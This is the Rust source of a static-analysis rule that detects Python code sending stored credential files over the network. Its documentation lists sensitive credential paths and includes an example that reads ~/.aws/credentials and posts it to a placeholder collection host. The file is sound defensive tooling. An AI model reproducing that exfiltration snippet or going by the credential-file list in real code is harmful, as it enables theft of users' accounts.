use airlock_model::{Confidence, RuleMeta, Severity};

use super::destination::Destination;
use super::sent_files::{self, UPLOADERS};
use crate::python::model::origin::SourceKind;
use crate::rules::arrivals::Arrival;
use crate::rules::check::{Check, Use};
use crate::rules::sinks::{Part, SinkKind};
use crate::rules::{Rule, paths, rule::Hook};

pub(crate) const RULE: Rule = Rule {
    meta: RuleMeta {
        id: "AL-FLOW-credentials-to-network",
        title: "Stored credentials are sent away",
        severity: Severity::Critical,
        confidence: Confidence::High,
        cwe: Some(522),
        bandit: &[],
        ruff: &[],
        remedy: "Take the credentials of the one service from the plugin's configuration; leave the user's files alone.",
        doc: DOC,
    },
    hooks: &[
        Hook::Flow(&[SourceKind::Credentials], &[SinkKind::Send], check),
        Hook::Reach(UPLOADERS, uploaded),
        Hook::Reach(paths::SHELLS, command),
        Hook::Reach(paths::PROCESSES, command),
    ],
};

fn uploaded<'a>(check: &mut Check<'_, 'a>, site: &Use<'a>) {
    sent_files::uploaded(check, site, SourceKind::Credentials);
}

fn command<'a>(check: &mut Check<'_, 'a>, site: &Use<'a>) {
    sent_files::by_command(check, site, SourceKind::Credentials);
}

fn check(check: &mut Check<'_, '_>, arrival: &Arrival) {
    // What a library hands out for a login may be used for one.
    let is_login = |part: Part, path: &str| part == Part::Header && path != "builtins.open";
    let Some((_, flow)) = arrival.of(&[SourceKind::Credentials]).find(|(part, flow)| !is_login(*part, &flow.path))
    else {
        return;
    };
    let destination = Destination::of(&arrival.destinations);
    let what = flow.name.as_deref().map_or_else(|| flow.path.to_string(), airlock_model::escape::quoted);
    let message = format!("{} sends the credentials in {what}{}", arrival.path, destination.phrase());
    let (severity, confidence) = super::of_secret(flow, destination.is_suspicious());
    let finding = super::finding(check, arrival, flow, message).severity(severity).confidence(confidence);
    check.report(finding);
}

const DOC: &str = r##"## What it finds
The contents of files that hold credentials (`~/.aws/credentials`, `~/.netrc`, `~/.git-credentials`, `~/.pypirc`, `~/.npmrc`, kube and docker configuration, browser profiles, shell histories) that reach a request, a socket, a mail or a program that sends them, also through a copy of the file; and such a file given by its name to `curl`, `scp`, `rsync` or a client of a store.

## Why it is dangerous
This is what thieves' packages do first: one request, and the user's accounts are theirs.

## Example
```python
import os
import requests

with open(os.path.expanduser("~/.aws/credentials")) as file:
    requests.post("https://collect.example.net/c", data=file.read())
```

## Safe form
```python
import boto3

client = boto3.client("s3")
```

## References
- [MITRE ATT&CK T1552.001: Credentials In Files](https://attack.mitre.org/techniques/T1552/001/)
- CWE-522: Insufficiently Protected Credentials
"##;
